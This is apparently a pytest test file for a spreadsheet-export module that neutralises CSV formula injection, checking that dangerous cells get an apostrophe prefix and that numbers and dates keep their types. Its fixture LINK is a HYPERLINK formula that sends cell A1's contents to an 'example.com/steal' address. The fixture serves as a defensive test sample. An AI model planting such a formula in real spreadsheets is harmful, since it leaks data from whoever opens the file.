"""The one writer of every .xlsx and CSV export: text a spreadsheet would run as a formula stays
text (OWASP's CSV injection: =, +, -, @, tab, carriage return first), numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal as D

import pytest
from openpyxl import Workbook, load_workbook

from spreadsheets.writing import (
    csv_bytes,
    csv_cell,
    csv_text,
    put_text,
    put_value,
    workbook_bytes,
)

LINK = '=HYPERLINK("http://example.com/steal?d="&A1,"点此查看")'


@pytest.mark.parametrize(
    "text",
    [LINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1", "-"],
)
def test_text_a_spreadsheet_would_run_is_written_to_csv_behind_an_apostrophe(text):
    assert csv_cell(text) == "'" + text
    (row,) = csv.reader(io.StringIO(csv_text([["名称", text]]), newline=""))
    assert row == ["名称", "'" + text]


@pytest.mark.parametrize("text", ["元旦", "a=b", " =1", "1-2", "'=1", ""])
def test_other_text_is_written_as_it_is(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (D("-5"), "-5"),
        (D("-0.035"), "-0.035"),
        (D("1E+3"), "1000"),
        (-3, "-3"),
        (2600, "2600"),
        (date(2027, 2, 6), "2027-02-06"),
        (None, ""),
    ],
)
def test_numbers_and_dates_are_written_as_they_are_even_negative(value, written):
    assert csv_cell(value) == written


def test_a_csv_file_has_the_byte_order_mark_excel_needs_and_crlf_lines():
    data = csv_bytes([["日期", "名称"], [date(2027, 1, 1), "=元旦"]])
    assert data == "\ufeff日期,名称\r\n2027-01-01,'=元旦\r\n".encode()


@pytest.mark.parametrize("text", [LINK, "+1+2", "-2+3", "@SUM(A1:A9)"])
def test_text_in_an_xlsx_is_a_string_cell_never_a_formula(text):
    book = Workbook()
    put_text(book.active, 1, 1, text)
    book.active.cell(1, 2, -5)
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == (text, "s")
    assert (sheet["B1"].value, sheet["B1"].data_type) == (-5, "n")


def test_every_exported_value_goes_through_one_cell_writer():
    book = Workbook()
    sheet = book.active
    for column, value in enumerate(
        ["-5", D("-5"), D("2600.50"), -3, date(2027, 2, 6), LINK, None], start=1
    ):
        put_value(sheet, 1, column, value, "yyyy-mm-dd" if isinstance(value, date) else None)
    read = load_workbook(io.BytesIO(workbook_bytes(book))).active
    cells = [(cell.value, cell.data_type) for cell in read[1]]
    assert cells[:4] == [("-5", "s"), (-5, "n"), (2600.5, "n"), (-3, "n")]
    assert cells[4][0].date() == date(2027, 2, 6) and cells[4][1] == "d"
    assert cells[5] == (LINK, "s")
    assert len(cells) == 6  # nothing written for None
    with pytest.raises(TypeError):
        put_value(sheet, 2, 1, True)
